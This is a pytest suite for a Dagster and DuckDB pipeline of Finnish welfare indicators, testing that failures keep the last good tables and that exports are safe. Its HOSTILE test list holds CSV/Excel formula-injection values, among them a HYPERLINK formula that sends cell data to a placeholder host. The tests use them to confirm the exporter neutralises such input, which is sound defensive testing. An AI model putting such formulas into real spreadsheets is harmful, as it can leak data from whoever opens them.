"""Nothing lost, nothing half-written: failures leave the last good tables, and checks are visible.

The session's `refreshed_project` (conftest.py) materialises everything once (the monthly backfill,
then `refresh_all`) on a private copy of data/; each test works on its own copy of that result.
"""

import os
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import dagster as dg
import duckdb
import pandas as pd
import pytest

from hyte_assets_tests.conftest import Refreshed, definitions, point_env_at, run_job, warehouse_path
from hyte_assets_tests.test_checks import failure_text

STATFIN_MEASURES = ["lasten_pienituloisuusaste"]
# Every source asset with a GE suite; employment_monthly's checks run in the monthly job.
CHECKED_SOURCES = [
    "raw/sotkanet_regions",
    "raw/sotkanet_indicators",
    "raw/sotkanet_indicator_resolution",
    "raw/sotkanet_values",
    "raw/kouluterveyskysely_values",
    "raw/statfin_values",
    "raw/population",
    "raw/employment_values",
    "raw/teaviisari_values",
    "raw/hyte_process_answers",
    "raw/hyte_outcome_values",
    "raw/local_counts",
    "raw/survey_values",
]
WARNING_CHECKS = {"ge_quarantine", "ge_freshness", "ge_coverage", "ge_outliers"}


@pytest.fixture
def refreshed(refreshed_project: Refreshed) -> Refreshed:
    return refreshed_project


@pytest.fixture
def data(refreshed: Refreshed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the refreshed project, warehouse included, that the resources now use."""
    copy = tmp_path / "data"
    shutil.copytree(refreshed.data_dir, copy)
    point_env_at(monkeypatch, copy)
    return copy


def all_tables() -> dict[str, pd.DataFrame]:
    """Every table of the warehouse, rows in a stable order, for row-for-row comparisons."""
    with duckdb.connect(str(warehouse_path()), read_only=True) as con:
        names = [
            f"{schema}.{name}"
            for schema, name in con.execute(
                "select table_schema, table_name from information_schema.tables order by all"
            ).fetchall()
        ]
        return {name: con.execute(f"select * from {name} order by all").df() for name in names}


def downstream_tables(asset: str, tables: set[str]) -> set[str]:
    """Tables written by `asset` and by every asset downstream of it (assets keyed schema/table)."""
    graph = definitions().resolve_asset_graph()
    found, todo = set(), [dg.AssetKey.from_user_string(asset)]
    while todo:
        key = todo.pop()
        if key not in found:
            found.add(key)
            todo.extend(graph.get(key).child_keys)
    named = {".".join(key.path) for key in found if len(key.path) == 2}
    name = dg.AssetKey.from_user_string(asset).path[-1]
    return (named | {f"quarantine.{name}"}) & tables


def test_garbage_from_one_source_leaves_its_data_and_reports_unchanged(data: Path) -> None:
    before = all_tables()
    statfin = data / "snapshots" / "statfin" / "tjt__14ww.data.json"
    statfin.write_text("<html><body><h1>503 Service Unavailable</h1></body></html>", encoding="utf-8")
    scores = data / "snapshots" / "teaviisari" / "sector_scores.csv"
    tea = pd.read_csv(scores, dtype={"municipality_code": str})
    heinola = (tea["municipality_code"] == "111") & (tea["sector"] == "kuntajohto")
    tea.loc[heinola, "score"] = 100 - tea.loc[heinola, "score"]  # genuine new data from another source
    tea.to_csv(scores, index=False)

    result = run_job("refresh_all")

    assert not result.success
    assert "source=statfin" in failure_text(result) and "HTML error page" in failure_text(result)
    after = all_tables()
    kept = downstream_tables("raw/statfin_values", set(before))
    assert {"raw.statfin_values", "marts.indicator_values"} <= kept
    assert any(name.startswith("reports.") for name in kept)
    for name in sorted(kept):
        pd.testing.assert_frame_equal(after[name], before[name], obj=name)
    # Every table that carries measures keeps the statfin rows exactly, fetched_at included.
    for name, frame in before.items():
        if "measure_id" in frame.columns and name in after:
            old = frame[frame["measure_id"].isin(STATFIN_MEASURES)].reset_index(drop=True)
            new = after[name][after[name]["measure_id"].isin(STATFIN_MEASURES)].reset_index(drop=True)
            pd.testing.assert_frame_equal(new, old, obj=name)
    # The other sources still refreshed.
    materialized = {e.asset_key.to_user_string() for e in result.get_asset_materialization_events()}
    assert set(CHECKED_SOURCES) - {"raw/statfin_values"} <= materialized
    new_scores = after["raw.teaviisari_values"]
    new_heinola = new_scores[(new_scores["region_code"] == "111") & (new_scores["sector"] == "kuntajohto")]
    assert sorted(new_heinola["value"]) == sorted(tea.loc[heinola, "score"])


# Replaces raw.teaviisari_values and then the staging table built from it (with a big frame) in one
# transaction, announcing on stdout when the first table is replaced but nothing is committed yet.
KILLED_WRITER = """
import sys
import numpy as np
import pandas as pd
from hyte_assets.lib import warehouse

class Announcing:
    def __init__(self, con):
        self.con = con

    def __getattr__(self, name):
        return getattr(self.con, name)

    def execute(self, sql, *args):
        result = self.con.execute(sql, *args)
        if sql.startswith("insert or replace into meta.table_versions"):
            print("IN_TRANSACTION", flush=True)
        return result

path, staging = sys.argv[1:]
big = pd.DataFrame({"n": np.arange(2_500_000)}).assign(text=lambda d: d["n"].astype(str))
with warehouse.connect(path) as con:
    scores = warehouse.read_table(con, "raw.teaviisari_values").assign(value=0.0)
    warehouse.replace_tables(Announcing(con), {"raw.teaviisari_values": scores, staging: big})
print("COMMITTED", flush=True)
"""


def test_write_killed_mid_transaction_leaves_the_old_tables_and_the_next_run_succeeds(data: Path) -> None:
    before = all_tables()
    staging = "staging.stg_teaviisari"  # the staging model built from it (region codes are shared too)
    assert staging in downstream_tables(
        "raw/teaviisari_values", {n for n in before if n.startswith("staging.")}
    )
    writer = subprocess.Popen(
        [sys.executable, "-c", KILLED_WRITER, str(warehouse_path()), staging],
        stdout=subprocess.PIPE,
        text=True,
        cwd=Path(__file__).resolve().parents[1],
    )
    assert writer.stdout is not None
    assert writer.stdout.readline().strip() == "IN_TRANSACTION"  # raw.teaviisari_values replaced, uncommitted
    os.kill(writer.pid, signal.SIGKILL)  # while the big staging table is being written
    writer.wait(timeout=30)
    assert writer.returncode == -signal.SIGKILL
    assert "COMMITTED" not in writer.stdout.read()

    after = all_tables()
    assert after.keys() == before.keys()
    for name in sorted(before):
        pd.testing.assert_frame_equal(after[name], before[name], obj=name)

    # The next run that writes the same two tables succeeds and leaves them as a clean run does.
    result = run_job(assets=["raw/teaviisari_values", staging.replace(".", "/")])
    assert result.success, failure_text(result)
    final = all_tables()
    for name in ("raw.teaviisari_values", staging):
        pd.testing.assert_frame_equal(final[name], before[name], obj=name)


def test_check_results_are_visible_through_dagster(refreshed: Refreshed) -> None:
    evaluations = {
        (e.asset_key.to_user_string(), e.check_name): e
        for e in [
            *refreshed.full.get_asset_check_evaluations(),
            *refreshed.monthly.get_asset_check_evaluations(),
        ]
    }
    for asset in [*CHECKED_SOURCES, "raw/employment_monthly"]:
        valid = evaluations[(asset, "ge_valid")]
        assert valid.passed, valid.metadata["failed_expectations"].value
        assert valid.severity == dg.AssetCheckSeverity.ERROR and valid.blocking
        assert "✅ pass" in valid.metadata["expectations"].value
        assert {"failed_expectations", "offending_rows", "rows", "evaluated", "failed"} <= set(valid.metadata)
        warnings = {name: e for (a, name), e in evaluations.items() if a == asset and name in WARNING_CHECKS}
        assert "ge_quarantine" in warnings
        for evaluation in warnings.values():
            assert evaluation.severity == dg.AssetCheckSeverity.WARN and not evaluation.blocking
    assert {name for (asset, name) in evaluations if asset == "raw/sotkanet_values"} == {
        "ge_valid",
        *WARNING_CHECKS,
    }

    # The instance's event log holds the same evaluations the UI shows.
    records = refreshed.instance.get_records_for_run(
        refreshed.full.run_id, of_type=dg.DagsterEventType.ASSET_CHECK_EVALUATION
    ).records
    logged = [r.event_log_entry.dagster_event.event_specific_data for r in records]
    assert {(e.asset_key.to_user_string(), e.check_name) for e in logged} == {
        (a, name) for (a, name) in evaluations if a != "raw/employment_monthly"
    }


# --- issue 18: outputs that are missing or broken are rebuilt, exports are safe ------------------


def test_missing_or_broken_outputs_are_rebuilt_not_skipped(data: Path) -> None:
    from hyte_assets.lib.exports import export_dir
    from hyte_assets.lib.publish import serving_path

    publish_assets = ["publish", "exports", "vuosiraportti"]

    def skipped(result: dg.ExecuteInProcessResult) -> dict[str, bool]:
        return {
            e.asset_key.to_user_string(): bool(e.materialization.metadata.get("skipped_unchanged_inputs"))
            for e in result.get_asset_materialization_events()
        }

    first = run_job(assets=publish_assets)
    assert first.success, failure_text(first)
    assert skipped(first) == dict.fromkeys(publish_assets, True), "nothing changed: all three skip"

    serving = serving_path(warehouse_path())
    serving.write_bytes(serving.read_bytes()[: serving.stat().st_size // 3])  # truncated copy
    export = export_dir(data / "exports") / "scorecard_goal.xlsx"
    export.unlink()
    (english,) = (data / "reports").glob("vuosiraportti_*_en.html")
    english.unlink()

    second = run_job(assets=publish_assets)

    assert second.success, failure_text(second)
    assert skipped(second) == dict.fromkeys(publish_assets, False)
    con = duckdb.connect(str(serving), read_only=True)
    try:
        assert con.execute("select count(*) from reports.scorecard_goal").fetchone()[0] > 0
    finally:
        con.close()
    assert export.is_file() and english.is_file()
    assert skipped(run_job(assets=publish_assets)) == dict.fromkeys(publish_assets, True)


HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"Klikkaa")', "+41", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def hostile_table() -> duckdb.DuckDBPyConnection:
    con = duckdb.connect()
    con.execute("create schema reports")
    con.execute("create table reports.notes (note varchar, value double, tags varchar[])")
    con.executemany("insert into reports.notes values (?, ?, ?)", [[t, -1.5, [t]] for t in HOSTILE])
    con.execute("insert into reports.notes values ('tavallinen - teksti', -2.0, [])")
    return con


def test_exported_text_never_becomes_a_formula(tmp_path: Path) -> None:
    import csv
    import io

    from openpyxl import load_workbook

    from hyte_assets.lib.exports import export_dir, export_tables

    export_tables(hostile_table(), ["reports.notes"], tmp_path)
    folder = export_dir(tmp_path)

    sheet = load_workbook(folder / "notes.xlsx").active
    cells = list(sheet.iter_rows(min_row=2))
    xml_text = [t.replace("\r", "\n") for t in HOSTILE]  # XML reads a bare CR as LF
    assert [row[0].value for row in cells] == [*xml_text, "tavallinen - teksti"]
    assert {row[0].data_type for row in cells} == {"s"}, "text cells are string cells, never formulas"
    assert {row[1].value for row in cells} == {-1.5, -2.0} and {row[1].data_type for row in cells} == {"n"}
    text = (folder / "notes.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]
    assert [r[0] for r in rows] == [*("'" + t for t in HOSTILE), "tavallinen - teksti"]
    assert [r[2] for r in rows[:-1]] == ["'" + t for t in HOSTILE]  # list cells are text too
    assert {r[1] for r in rows} == {"-1,5", "-2,0"}, "numbers keep their sign, unprefixed"


def test_exports_leave_analysts_files_alone(tmp_path: Path) -> None:
    from hyte_assets.lib.exports import export_dir, export_tables

    mine = {"oma_analyysi.xlsx": b"analyst", "scorecard.csv": b"analyst's own", "notes.parquet": b"x"}
    for name, content in mine.items():
        (tmp_path / name).write_bytes(content)

    exported = export_tables(hostile_table(), ["reports.notes"], tmp_path)
    export_tables(hostile_table(), [], tmp_path)  # the table is no longer published

    assert {n: (tmp_path / n).read_bytes() for n in mine} == mine
    assert all(f.parent == export_dir(tmp_path) for f in exported[0].files)
    assert list(export_dir(tmp_path).iterdir()) == [], "the project's own folder mirrors what is published"


# Exports version `v` of two tables, and hangs (announcing it) after the first table's files are written.
KILLED_EXPORT = """
import sys, time
import duckdb
from hyte_assets.lib import exports

root, version, hang = sys.argv[1], int(sys.argv[2]), sys.argv[3] == "hang"
con = duckdb.connect()
con.execute("create schema reports")
for name in ("a", "b"):
    con.execute(f"create table reports.{name} as select {version} as version from range(3)")
write_xlsx = exports.write_xlsx
def slow(path, **kwargs):
    write_xlsx(path, **kwargs)
    if hang and kwargs["sheet"] == "a":
        print("HALFWAY", flush=True)
        time.sleep(600)
exports.write_xlsx = slow
exports.export_tables(con, ["reports.a", "reports.b"], root)
print("DONE", flush=True)
"""


def test_export_killed_halfway_leaves_one_whole_publication(tmp_path: Path) -> None:
    from hyte_assets.lib.exports import export_dir

    def export(version: int, hang: bool) -> subprocess.Popen[str]:
        return subprocess.Popen(
            [sys.executable, "-c", KILLED_EXPORT, str(tmp_path), str(version), "hang" if hang else "run"],
            stdout=subprocess.PIPE,
            text=True,
            cwd=Path(__file__).resolve().parents[1],
        )

    first = export(1, hang=False)
    assert first.communicate(timeout=120)[0].strip() == "DONE"
    second = export(2, hang=True)
    assert second.stdout is not None and second.stdout.readline().strip() == "HALFWAY"
    os.kill(second.pid, signal.SIGKILL)
    second.wait(timeout=30)

    folder = export_dir(tmp_path)
    con = duckdb.connect()
    versions = {
        p.name: [v for (v,) in con.execute(f"select distinct version from '{p}'").fetchall()]
        for p in folder.glob("*.parquet")
    }
    assert versions == {"a.parquet": [1], "b.parquet": [1]}, "all files from the last whole publication"
    csv_versions = {p.read_text(encoding="utf-8-sig").splitlines()[1] for p in folder.glob("*.csv")}
    assert csv_versions == {"1"}
    assert sorted(p.name for p in tmp_path.iterdir()) != ["hyte"]  # the killed run's temporary folder
    third = export(3, hang=False)
    assert third.communicate(timeout=120)[0].strip() == "DONE"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hyte"], "leftovers of the killed run removed"


def test_a_table_too_long_for_excel_gets_no_xlsx(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from hyte_assets.lib import exports

    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 5)  # Excel's 1 048 576, scaled down
    (notes,) = exports.export_tables(hostile_table(), ["reports.notes"], tmp_path)

    assert [f.name for f in notes.files] == ["notes.parquet", "notes.csv"]
    assert "do not fit an Excel sheet" in notes.note
    assert not (exports.export_dir(tmp_path) / "notes.xlsx").exists()
    con = duckdb.connect()
    assert con.execute(
        f"select count(*) from '{exports.export_dir(tmp_path) / 'notes.parquet'}'"
    ).fetchone() == (7,)
